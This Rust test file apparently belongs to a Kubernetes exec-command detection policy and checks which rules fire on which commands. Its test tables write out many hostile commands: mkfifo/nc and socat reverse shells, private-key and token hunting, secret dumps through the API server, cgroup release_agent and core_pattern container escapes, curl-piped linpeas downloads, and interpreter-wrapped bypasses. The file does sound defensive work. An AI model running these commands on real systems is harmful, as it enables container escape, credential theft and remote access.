            0 => format!("if true; then {script}; fi"),
            1 => format!("while true; do {script}; done"),
            // Case clauses nest at most six deep (brush-parser backtracks on more).
            2 if i < 36 => format!("case x in x) {script};; esac"),
            2 => format!("until false; do {script}; done"),
            3 => format!("{{ {script}; }}"),
            4 => format!("for i in 1; do {script}; done"),
            _ => format!("f() {{ {script}; }}; f"),
        };
    }
    let script = format!("sh -c \"{}\"", script.replace('"', "\\\""));
    let handle = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            let d = exec(&policy, &["sh", "-c", &script], false);
            rules(&d)
        })
        .unwrap();
    let fired = handle.join().expect("no stack overflow");
    assert!(
        fired.contains(&"exec-network-scan".to_string()),
        "{fired:?}"
    );
    assert!(
        !fired.contains(&"exec-analysis-limit".to_string()),
        "{fired:?}"
    );
}

/// Looking a program up is not running it, resolving a name is not reaching it, a variable as a
/// path's directory is not obfuscation, and a toolkit's name shared with a common CLI matches only
/// with the toolkit's own subcommands. Each case: argv, the highest decision allowed, rules that
/// must not fire. The twin below each class shows the rule still fires where it should.
#[test]
fn lookups_and_name_collisions_are_not_use() {
    let policy = policy();
    let quiet: &[(&[&str], Action, &[&str])] = &[
        // DNS and ICMP: name resolution and reachability, not API or metadata access.
        (
            &["nslookup", "kubernetes.default"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        (
            &["nslookup", "kubernetes.default.svc.cluster.local"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        (
            &["dig", "+short", "kubernetes.default.svc"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        (
            &["host", "kubernetes"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        (
            &["getent", "hosts", "kubernetes.default"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        (
            &["nslookup", "metadata.google.internal"],
            Annotate,
            &["exec-cloud-metadata"],
        ),
        (
            &["ping", "-c", "1", "169.254.169.254"],
            Annotate,
            &["exec-cloud-metadata"],
        ),
        (
            &["sh", "-c", "nslookup kubernetes.default && echo ok"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        (
            &["busybox", "nslookup", "kubernetes.default"],
            Annotate,
            &["exec-apiserver-access"],
        ),
        // Lookups of a program.
        (
            &["sh", "-c", "command -v docker"],
            Allow,
            &["exec-runtime-client"],
        ),
        (
            &["sh", "-c", "command -v kubectl >/dev/null || exit 1"],
            Allow,
            &["exec-kubectl"],
        ),
        (
            &["sh", "-c", "command -V nmap"],
            Allow,
            &["exec-network-scan"],
        ),
        (&["which", "docker"], Allow, &["exec-runtime-client"]),
        (&["sh", "-c", "type kubectl"], Allow, &["exec-kubectl"]),
        (
            &["sh", "-c", "hash crictl 2>/dev/null"],
            Allow,
            &["exec-runtime-client"],
        ),
        (&["docker", "--version"], Allow, &["exec-runtime-client"]),
        (&["nmap", "--version"], Allow, &["exec-network-scan"]),
        (&["kubectl", "--help"], Allow, &["exec-kubectl"]),
        (&["tcpdump", "-h"], Allow, &["exec-sniffing"]),
        // Variables as a directory.
        (
            &["sh", "-c", "$JAVA_HOME/bin/java -jar app.jar"],
            Allow,
            &["exec-obfuscation"],
        ),
        (
            &["sh", "-c", "\"$JAVA_HOME/bin/java\" -version"],
            Allow,
            &["exec-obfuscation"],
        ),
        (
            &["sh", "-c", "${APP}/run.sh --port 8080"],
            Allow,
            &["exec-obfuscation"],
        ),
        (
            &["bash", "-c", "exec $CATALINA_HOME/bin/catalina.sh run"],
            Allow,
            &["exec-obfuscation"],
        ),
        // The AWS CDK CLI is not the Container Discovery Kit.
        (&["cdk", "deploy"], Allow, &["exec-recon-toolkit"]),
        (&["cdk", "synth", "--all"], Allow, &["exec-recon-toolkit"]),
        (
            &[
                "sh",
                "-c",
                "npx cdk diff && cdk deploy --require-approval never",
            ],
            Allow,
            &["exec-recon-toolkit"],
        ),
    ];
    let mut failures = Vec::new();
    for (argv, at_most, never) in quiet {
        let d = exec(policy, argv, false);
        let fired = rules(&d);
        if d.action > *at_most || never.iter().any(|r| fired.iter().any(|f| f == r)) {
            failures.push(format!("{argv:?}: {:?} {fired:?}", d.action));
        }
    }
    // The twins: use, access and hidden names still fire.
    let loud: &[(&[&str], &str)] = &[
        (
            &["curl", "-k", "https://kubernetes.default/api"],
            "exec-apiserver-access",
        ),
        (
            &["wget", "-qO-", "http://169.254.169.254/latest/meta-data/"],
            "exec-cloud-metadata",
        ),
        (
            &["nc", "-zv", "kubernetes.default", "443"],
            "exec-apiserver-access",
        ),
        (&["sh", "-c", "command docker ps"], "exec-runtime-client"),
        (
            &["sh", "-c", "command -p nmap 10.0.0.1"],
            "exec-network-scan",
        ),
        (&["docker", "ps", "--help-me-not"], "exec-runtime-client"),
        (&["nmap", "-V", "-sS", "10.0.0.0/24"], "exec-network-scan"),
        (&["sh", "-c", "n${x}map 10.0.0.1"], "exec-obfuscation"),
        (&["sh", "-c", "/usr/bin/$T 10.0.0.1"], "exec-obfuscation"),
        (&["sh", "-c", "$(echo nmap) 10.0.0.1"], "exec-obfuscation"),
        (&["cdk", "evaluate", "--full"], "exec-recon-toolkit"),
        (
            &["/tmp/cdk", "run", "mount-cgroup", "id"],
            "exec-recon-toolkit",
        ),
    ];
    for (argv, rule) in loud {
        let fired = rules(&exec(policy, argv, false));
        if !fired.iter().any(|f| f == rule) {
            failures.push(format!("{argv:?}: {rule} did not fire: {fired:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A command run through a second interpreter or runner is read like `sh -c`: eval, awk's
/// `system()` and pipes to a shell, `find -exec`, `xargs`, `script -c`, `flock`, `tmux`,
/// `screen`, `setpriv`, `runuser`, `chpst`, `ionice`, `taskset`, `busybox sh`, and interpreter
/// one-liners with combined flags. Network clients over variable destinations in a loop scan.
#[test]
fn no_bypass_through_a_second_interpreter() {
    let policy = policy();
    let hidden: &[&[&str]] = &[
        &["sh", "-c", "eval 'nmap -sS 10.0.0.0/24'"],
        &["sh", "-c", "eval nmap -sS 10.0.0.0/24"],
        // brush-parser's tokenizer ends this substitution at the inner pattern's `)`.
        &[
            "sh",
            "-c",
            "case x in x) echo $( case x in x) nmap -sS 10.0.0.0/24;; esac );; esac",
        ],
        &["awk", "BEGIN{system(\"nmap -sS 10.0.0.0/24\")}"],
        &[
            "gawk",
            "-F",
            ":",
            "BEGIN { system(\"nmap -sS 10.0.0.0/24\") }",
        ],
        &["busybox", "awk", "BEGIN{system(\"nmap -sS 10.0.0.0/24\")}"],
        &["awk", "BEGIN{print \"nmap -sS 10.0.0.0/24\" | \"sh\"}"],
        &["sh", "-c", "awk 'BEGIN{system(\"nmap -sS 10.0.0.0/24\")}'"],
        &[
            "find",
            "/",
            "-maxdepth",
            "0",
            "-exec",
            "nmap",
            "-sS",
            "10.0.0.0/24",
            ";",
        ],
        &[
            "find",
            "/tmp",
            "-execdir",
            "nmap",
            "-sS",
            "10.0.0.0/24",
            "{}",
            "+",
        ],
        &[
            "sh",
            "-c",
            "find / -maxdepth 0 -ok nmap -sS 10.0.0.0/24 \\;",
        ],
        &["sh", "-c", "echo 10.0.0.0/24 | xargs nmap -sS"],
        &[
            "sh",
            "-c",
            "echo x | xargs -I{} sh -c 'nmap -sS 10.0.0.0/24'",
        ],
        &["script", "-qc", "nmap -sS 10.0.0.0/24", "/dev/null"],
        &["script", "/dev/null", "-c", "nmap -sS 10.0.0.0/24"],
        &["flock", "/tmp/lock", "nmap", "-sS", "10.0.0.0/24"],
        &["flock", "/tmp/lock", "-c", "nmap -sS 10.0.0.0/24"],
        &[
            "tmux",
            "new-session",
            "-d",
            "-s",
            "x",
            "nmap -sS 10.0.0.0/24",
        ],
        &["screen", "-dmS", "x", "nmap", "-sS", "10.0.0.0/24"],
        &["setpriv", "--reuid", "0", "nmap", "-sS", "10.0.0.0/24"],
        &["runuser", "-u", "app", "--", "nmap", "-sS", "10.0.0.0/24"],
        &["chpst", "-u", "app", "nmap", "-sS", "10.0.0.0/24"],
        &["ionice", "-c", "3", "nmap", "-sS", "10.0.0.0/24"],
        &["taskset", "0x1", "nmap", "-sS", "10.0.0.0/24"],
        &["busybox", "sh", "-c", "nmap -sS 10.0.0.0/24"],
        &[
            "python3",
            "-Ic",
            "import os; os.system('nmap -sS 10.0.0.0/24')",
        ],
        &[
            "python3",
            "-c",
            "import os;os.system('nmap -sS 10.0.0.0/24')",
        ],
        &["perl", "-ne", "system('nmap -sS 10.0.0.0/24')"],
        &["perl", "-Mposix", "-e", "system('nmap -sS 10.0.0.0/24')"],
        &["ruby", "-e", "system('nmap -sS 10.0.0.0/24')"],
        &[
            "node",
            "-e",
            "require('child_process').execSync('nmap -sS 10.0.0.0/24')",
        ],
        &["php", "-r", "system('nmap -sS 10.0.0.0/24');"],
        &["lua", "-e", "os.execute('nmap -sS 10.0.0.0/24')"],
    ];
    let mut failures = Vec::new();
    for argv in hidden {
        let d = exec(policy, argv, false);
        if !rules(&d).iter().any(|r| r == "exec-network-scan") || d.action != Action::Deny {
            failures.push(format!("hidden {argv:?}: {:?} {:?}", d.action, rules(&d)));
        }
    }
    let loops: &[&str] = &[
        "for p in 22 80 443 8080; do curl -s -m1 telnet://10.0.0.5:$p; done",
        "for i in $(seq 1 254); do ping -c1 10.0.0.$i; nc -zw1 10.0.0.$i 22; done",
        "while read h; do wget -q -T1 http://$h:10255/pods; done < hosts",
        "for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null && echo $p; done",
    ];
    for script in loops {
        let d = exec(policy, &["sh", "-c", script], false);
        if !rules(&d).iter().any(|r| r == "exec-network-scan") {
            failures.push(format!("loop {script:?}: {:?}", rules(&d)));
        }
    }
    // The twins: what these runners do without a hidden command stays quiet.
    let quiet: &[&[&str]] = &[
        &[
            "find", "/var/log", "-name", "*.gz", "-mtime", "+7", "-exec", "rm", "{}", ";",
        ],
        &["find", "/srv", "-type", "f", "-name", "*.tmp"],
        &["awk", "-F", ":", "{print $1}", "/etc/hostname"],
        &["sh", "-c", "ps aux | awk '{print $2}' | head -1"],
        &["flock", "/tmp/backup.lock", "pg_dump", "-Fc", "shop"],
        &["script", "-q", "/dev/null"],
        &["python3", "-u", "app.py"],
        &["python3", "-m", "http.server", "8080"],
        &[
            "sh",
            "-c",
            "for f in *.json; do curl -s -X POST -d @$f http://api:8080/import; done",
        ],
        &[
            "sh",
            "-c",
            "for i in 1 2 3; do curl -s http://api:8080/items/$i; done",
        ],
    ];
    for argv in quiet {
        let d = exec(policy, argv, false);
        if d.action == Action::Deny || rules(&d).iter().any(|r| r == "exec-network-scan") {
            failures.push(format!("quiet {argv:?}: {:?} {:?}", d.action, rules(&d)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// `kubectl cp` as the API server admits it (kubectl's own argv): uploads are recorded as
/// staging (T1105) without a warning, copies out are judged by the paths they copy, including
/// the `--retries` form and whole credential directories.
#[test]
fn kubectl_cp_is_recognised() {
    let policy = policy();
    let upload: &[&[&str]] = &[
        &["tar", "-xmf", "-"],
        &["tar", "-xmf", "-", "-C", "/tmp/bar"],
        &[
            "tar",
            "--no-same-permissions",
            "--no-same-owner",
            "-xmf",
            "-",
            "-C",
            "/app/data",
        ],
    ];
    for argv in upload {
        let d = exec(policy, argv, true);
        assert_eq!(rules(&d), ["exec-file-upload"], "{argv:?}");
        assert_eq!(d.action, Action::Allow, "{argv:?}");
        assert_eq!(d.findings[0].technique, "T1105");
    }
    let out: &[(&[&str], Option<&str>)] = &[
        (&["tar", "cf", "-", "/app/logs"], None),
        (&["sh", "-c", "tar cf - /app/logs | tail -c+1048576"], None),
        (
            &["tar", "cf", "-", "/etc/shadow"],
            Some("exec-credential-read"),
        ),
        (
            &["tar", "cf", "-", "/root/.kube"],
            Some("exec-credential-read"),
        ),
        (
            &["sh", "-c", "tar cf - /root/.ssh | tail -c+0"],
            Some("exec-credential-read"),
        ),
        (
            &["tar", "cf", "-", "/host/etc/kubernetes/pki"],
            Some("exec-host-secret-read"),
        ),
        (
            &[
                "tar",
                "cf",
                "-",
                "/var/run/secrets/kubernetes.io/serviceaccount",
            ],
            Some("exec-sa-token-read"),
        ),
    ];
    for (argv, rule) in out {
        let fired = rules(&exec(policy, argv, false));
        match rule {
            None => assert!(fired.is_empty(), "{argv:?}: {fired:?}"),
            Some(rule) => assert!(fired.iter().any(|f| f == rule), "{argv:?}: {fired:?}"),
        }
    }
}

/// The command under every wrapping an intruder has at hand: the verdict must not change.
fn wrappings(command: &str) -> Vec<Vec<String>> {
    let quoted = command.replace('\'', r"'\''");
    vec![
        vec!["sh".into(), "-c".into(), command.into()],
        vec!["bash".into(), "-c".into(), format!("eval '{quoted}'")],
        vec!["busybox".into(), "sh".into(), "-c".into(), command.into()],
        vec![
            "env".into(),
            "-i".into(),
            "timeout".into(),
            "30".into(),
            "sh".into(),
            "-c".into(),
            command.into(),
        ],
        vec!["su".into(), "-c".into(), command.into(), "root".into()],
    ]
}

fn judged(argv: &[String]) -> reconguard::decision::Decision {
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    exec(policy(), &argv, false)
}

/// Issue 8, point 3: high-confidence attack behaviour denies on its own, every class in several
/// spellings, each under every wrapping.
#[test]
fn high_confidence_attack_behaviour_denies_alone() {
    let cases: &[(&str, &str)] = &[
        // Credential hunting across a filesystem.
        ("grep -r 'BEGIN RSA PRIVATE KEY' /", "exec-credential-hunt"),
        ("grep -rl 'BEGIN OPENSSH PRIVATE KEY' /home", "exec-credential-hunt"),
        ("grep -Rin 'aws_secret_access_key' / 2>/dev/null", "exec-credential-hunt"),
        ("grep -ri password /", "exec-credential-hunt"),
        ("egrep -r --include=*.env 'token' /srv", "exec-credential-hunt"),
        ("find / -name id_rsa 2>/dev/null", "exec-credential-hunt"),
        ("find / -name '*.kubeconfig'", "exec-credential-hunt"),
        ("find / -type f -name credentials -path '*/.aws/*'", "exec-credential-hunt"),
        ("find /home -name .git-credentials -o -name .netrc", "exec-credential-hunt"),
        ("find / -name msal_token_cache.json", "exec-credential-hunt"),
        ("find ~ -name '*.pem'", "exec-credential-hunt"),
        ("locate id_ed25519", "exec-credential-hunt"),
        ("locate password", "exec-credential-hunt"),
        ("rg -uu 'PRIVATE KEY' /", "exec-credential-hunt"),
        // Secrets and workloads through the API from inside the pod, by any client.
        ("kubectl get secrets -A -o yaml", "exec-api-secret-read"),
        ("kubectl -n kube-system get secret/bootstrap-token-abcdef -o json", "exec-api-secret-read-named"),
        ("kubectl describe secrets", "exec-api-secret-read"),
        ("oc get secrets", "exec-api-secret-read"),
        ("curl -sk https://10.96.0.1/api/v1/secrets -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\"", "exec-api-secret-read"),
        ("wget -qO- --no-check-certificate https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "exec-api-secret-read"),
        ("curl -k https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/namespaces/default/secrets/db", "exec-api-secret-read-named"),
        ("python3 -c 'from kubernetes import client, config; config.load_incluster_config(); print(client.CoreV1Api().list_secret_for_all_namespaces())'", "exec-api-secret-read"),
        ("kubectl run pwn --image=alpine --overrides='{\"spec\":{\"hostPID\":true}}'", "exec-api-workload-control"),
        ("kubectl exec -it -n kube-system etcd-master -- sh", "exec-api-workload-control"),
        ("kubectl debug node/worker-1 -it --image=busybox", "exec-api-workload-control"),
        ("kubectl create job x --image=alpine", "exec-api-workload-control"),
        ("curl -sk -X POST -H 'Content-Type: application/json' https://kubernetes.default/api/v1/namespaces/default/pods -d @pod.json", "exec-api-workload-control"),
        ("curl -sk 'https://10.96.0.1/api/v1/namespaces/default/pods/web/exec?command=id&stdout=true'", "exec-api-workload-control"),
        ("curl -sk -XPOST https://10.96.0.1/api/v1/namespaces/default/pods --data-binary @p.json", "exec-api-workload-control"),
        ("wget -qO- --method=POST --body-file=p.json https://kubernetes.default/api/v1/namespaces/x/pods", "exec-api-workload-control"),
        // Kernel escape interfaces, cgroup and host-device mounts, by any path spelling.
        ("mount -t cgroup -o rdma cgroup /tmp/cgrp", "exec-escape-artifact"),
        ("mkdir /tmp/x && mount -t cgroup2 none /tmp/x", "exec-escape-artifact"),
        ("mount /dev/sda1 /mnt", "exec-escape-artifact"),
        ("mount /dev/dm-0 /mnt", "exec-escape-artifact"),
        ("mount -o ro /dev/nvme0n1p1 /mnt/host", "exec-escape-artifact"),
        ("mount /dev/mapper/root /mnt", "exec-escape-artifact"),
        ("mknod /tmp/disk b 8 1", "exec-escape-artifact"),
        ("echo /tmp/x.sh > /tmp/cgrp/release_agent", "exec-escape-artifact"),
        ("cd /tmp/cgrp && echo /cmd > release_agent", "exec-escape-artifact"),
        ("echo 1 > /tmp/cgrp/x/notify_on_release", "exec-escape-artifact"),
        ("echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "exec-escape-artifact"),
        ("cd /proc/sys/kernel; echo '|/tmp/x' > ./core_pattern", "exec-escape-artifact"),
        ("echo '|/tmp/x' | tee /host/proc/sys/kernel/core_pattern", "exec-escape-artifact"),
        ("sysctl -w kernel.core_pattern='|/tmp/x'", "exec-escape-artifact"),
        ("echo /tmp/x > /sys/kernel/uevent_helper", "exec-escape-artifact"),
        ("echo ':x:M::MZ::/tmp/x:' > /proc/sys/fs/binfmt_misc/register", "exec-escape-artifact"),
        // The node's secrets through a host mount, under any prefix.
        ("cat /host/etc/shadow", "exec-host-secret-read"),
        ("cat /rootfs/etc/kubernetes/admin.conf", "exec-host-secret-read"),
        ("cp /hostfs/var/lib/kubelet/pki/kubelet-client-current.pem /tmp", "exec-host-secret-read"),
        ("ls /node/etc/kubernetes/pki/etcd", "exec-host-secret-read"),
        ("tar czf /tmp/etcd.tgz /mnt/var/lib/etcd", "exec-host-secret-read"),
        ("cat /host/root/.ssh/id_rsa", "exec-host-secret-read"),
        ("cat /etc/kubernetes/pki/ca.key", "exec-host-secret-read"),
        // Download and run of a catalogued toolkit: the name anywhere in the URL or path.
        ("curl -sL https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh | sh", "exec-toolkit-download"),
        ("wget https://github.com/cdk-team/CDK/releases/download/v1.5.2/cdk_linux_amd64 -O /tmp/c && chmod +x /tmp/c && /tmp/c evaluate", "exec-toolkit-download"),
        ("curl -LO https://github.com/cyberark/kubeletctl/releases/download/v1.11/kubeletctl_linux_amd64", "exec-toolkit-download"),
        ("curl -o /tmp/p https://example.com/download?f=peirates && /tmp/p", "exec-toolkit-download"),
        ("git clone https://github.com/stealthcopter/deepce && ./deepce/deepce.sh", "exec-toolkit-download"),
        ("pip install kube-hunter", "exec-toolkit-download"),
        ("/tmp/kubeletctl_linux_amd64 scan --cidr 10.0.0.0/24", "exec-recon-toolkit"),
        ("bash /tmp/LinEnum.sh -t", "exec-recon-toolkit"),
        // Listeners that hand a shell to whoever connects.
        ("nc -lvnp 4444 -e /bin/sh", "exec-reverse-shell"),
        ("ncat -l 4444 --sh-exec 'bash -i'", "exec-reverse-shell"),
        ("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr", "exec-reverse-shell"),
        ("socat tcp-l:4444 system:sh", "exec-reverse-shell"),
        // A shell piped to or from a network connection (the mkfifo forms).
        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "exec-reverse-shell"),
        ("mkfifo /tmp/f; nc -l 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1", "exec-reverse-shell"),
        ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s", "exec-reverse-shell"),
        ("telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445", "exec-reverse-shell"),
        // More spellings of the classes above.
        ("trufflehog filesystem /", "exec-credential-hunt"),
        ("find / -name '*.tfstate' 2>/dev/null", "exec-credential-hunt"),
        ("kubectl create token default -n kube-system", "exec-api-secret-read"),
        ("cat /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~secret/*/token", "exec-host-secret-read"),
        ("python3 -c \"import urllib.request; urllib.request.urlretrieve('https://x.example/linpeas.sh','/tmp/l')\"", "exec-toolkit-download"),
        ("sysctl -w kernel.core_pattern='|/tmp/x'", "exec-escape-artifact"),
        ("memdump | strings | grep KEY", "exec-kernel-module"),
    ];
    let mut failures = Vec::new();
    for (command, rule) in cases {
        for argv in wrappings(command) {
            let d = judged(&argv);
            if d.action != Action::Deny || !rules(&d).iter().any(|r| r == rule) {
                failures.push(format!(
                    "{argv:?}: {:?} {:?}, want deny with {rule}",
                    d.action,
                    rules(&d)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Discovery, fingerprinting, plain listeners and privilege-escalation probes annotate: each
/// has an innocent reading, so none denies on its own.
#[test]
fn discovery_and_probes_annotate_without_denying() {
    let cases: &[(&str, &str)] = &[
        ("cat /proc/modules", "exec-host-info-read"),
        ("lsmod", "exec-system-info"),
        ("kmod list", "exec-system-info"),
        ("cat /proc/scsi/scsi", "exec-host-info-read"),
        ("cat /sys/class/dmi/id/product_name", "exec-host-info-read"),
        (
            "cat /sys/devices/virtual/dmi/id/sys_vendor",
            "exec-host-info-read",
        ),
        ("cat /sys/hypervisor/type", "exec-host-info-read"),
        ("systemd-detect-virt", "exec-system-info"),
        ("virt-what", "exec-system-info"),
        (
            "for p in /proc/[0-9]*; do cat $p/cmdline; echo; done",
            "exec-proc-process-read",
        ),
        ("ls /proc | grep -E '^[0-9]+$'", "exec-proc-process-read"),
        ("cat /proc/*/comm", "exec-proc-process-read"),
        ("nc -l -p 4444", "exec-listener"),
        ("nc -lvnp 9001", "exec-listener"),
        ("ncat --listen 8443", "exec-listener"),
        (
            "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
            "exec-listener",
        ),
        ("pkexec /bin/sh", "exec-privilege-escalation"),
        ("sudoedit -s /", "exec-privilege-escalation"),
        ("sudo -l", "exec-privilege-escalation"),
        ("chmod u+s /bin/bash", "exec-privilege-escalation"),
        ("chmod 4755 /tmp/sh", "exec-privilege-escalation"),
        (
            "setcap cap_setuid+ep /usr/bin/python3",
            "exec-privilege-escalation",
        ),
        ("getcap -r / 2>/dev/null", "exec-file-discovery"),
        (
            "find / -perm -4000 -type f 2>/dev/null",
            "exec-file-discovery",
        ),
        ("kubectl auth can-i --list", "exec-kubectl"),
        ("kubectl get pods -A", "exec-kubectl"),
        ("curl -sk https://10.96.0.1/api/v1/namespaces/default/pods -H \"Authorization: Bearer $T\"", "exec-apiserver-access"),
        ("cat ~/.aws/credentials", "exec-credential-read"),
        ("env | grep AWS_SECRET", "exec-credential-read"),
        // Reading core_pattern is how operators find core dumps; writing it is an escape.
        ("cat /proc/sys/kernel/core_pattern", "exec-host-info-read"),
        (
            "install -m 4755 /bin/sh /tmp/sh",
            "exec-privilege-escalation",
        ),
        ("cat /proc/sched_debug", "exec-proc-process-read"),
        ("mount -o remount,size=1G /dev/shm", "exec-mount"),
        (
            "device=/dev/$(lsblk -i | grep part | tail -1); mount $device /mnt/h",
            "exec-mount",
        ),
    ];
    let mut failures = Vec::new();
    for (command, rule) in cases {
        for argv in wrappings(command) {
            let d = judged(&argv);
            if d.action != Action::Annotate || !rules(&d).iter().any(|r| r == rule) {
                failures.push(format!(
                    "{argv:?}: {:?} {:?}, want annotate with {rule}",
                    d.action,
                    rules(&d)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
